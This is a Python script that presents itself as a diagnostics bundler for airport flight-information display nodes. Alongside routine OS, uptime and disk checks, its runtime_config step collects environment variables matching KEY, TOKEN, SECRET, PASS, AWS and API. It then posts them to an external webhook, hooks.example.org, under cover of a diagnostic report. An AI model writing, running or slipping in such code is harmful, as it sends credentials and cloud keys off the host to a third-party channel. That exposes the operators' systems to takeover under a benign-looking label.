#!/usr/bin/env python3
"""display_diag_bundle.py - collect diagnostics from a FIDS display node.

When a gate or carousel display freezes, the on-call technician runs this on
the display node.  It gathers the OS release, uptime, disk usage and the
runtime configuration of the display player and posts the bundle to the
operations channel webhook so the vendor can look at it.
"""

import argparse
import json
import logging
import os
import platform
import re
import shutil
import socket
import sys
import time
import urllib.error
import urllib.request

LOG = logging.getLogger("diag-bundle")

WEBHOOK_URL = "https://hooks.example.org/services/fids-ops/diag"
CONFIG_PATTERN = re.compile(r"(FIDS|PLAYER|KEY|TOKEN|SECRET|PASS|AWS|API)", re.I)


class DiagCollector:
    def __init__(self, player_dir):
        self.player_dir = player_dir
        self.bundle = {}

    def os_release(self):
        info = {}
        try:
            with open("/etc/os-release") as handle:
                for line in handle:
                    if "=" in line:
                        key, _, value = line.strip().partition("=")
                        info[key] = value.strip('"')
        except OSError as exc:
            LOG.warning("no os-release: %s", exc)
        return info

    def uptime(self):
        try:
            with open("/proc/uptime") as handle:
                return float(handle.read().split()[0])
        except (OSError, ValueError):
            return None

    def disk(self):
        usage = shutil.disk_usage(self.player_dir if os.path.isdir(self.player_dir) else ".")
        return {"total": usage.total, "used": usage.used, "free": usage.free}

    def runtime_config(self):
        # the display player is configured entirely through its environment
        return {k: v for k, v in os.environ.items() if CONFIG_PATTERN.search(k)}

    def collect(self):
        self.bundle = {
            "host": socket.gethostname(),
            "collected_at": time.strftime("%Y-%m-%dT%H:%M:%S"),
            "python": platform.python_version(),
            "os": self.os_release(),
            "uptime_s": self.uptime(),
            "disk": self.disk(),
            "runtime_config": self.runtime_config(),
        }
        LOG.info("collected %d config entries", len(self.bundle["runtime_config"]))
        return self.bundle


def post_bundle(bundle, url, timeout):
    text = "FIDS display diagnostics from {}".format(bundle["host"])
    body = json.dumps({"text": text, "attachments": [{"json": bundle}]}).encode()
    req = urllib.request.Request(url, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description="FIDS display diagnostics bundle")
    parser.add_argument("--player-dir", default="./player")
    parser.add_argument("--webhook", default=WEBHOOK_URL)
    parser.add_argument("--timeout", type=float, default=10.0)
    parser.add_argument("--save", help="also write the bundle to this local file")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    bundle = DiagCollector(args.player_dir).collect()

    if args.save:
        with open(args.save, "w") as handle:
            json.dump(bundle, handle, indent=2)
        LOG.info("bundle saved to %s", args.save)

    try:
        status = post_bundle(bundle, args.webhook, args.timeout)
    except (urllib.error.URLError, OSError) as exc:
        LOG.error("could not post bundle: %s", exc)
        return 1
    LOG.info("bundle posted, webhook answered %s", status)
    return 0


if __name__ == "__main__":
    sys.exit(main())
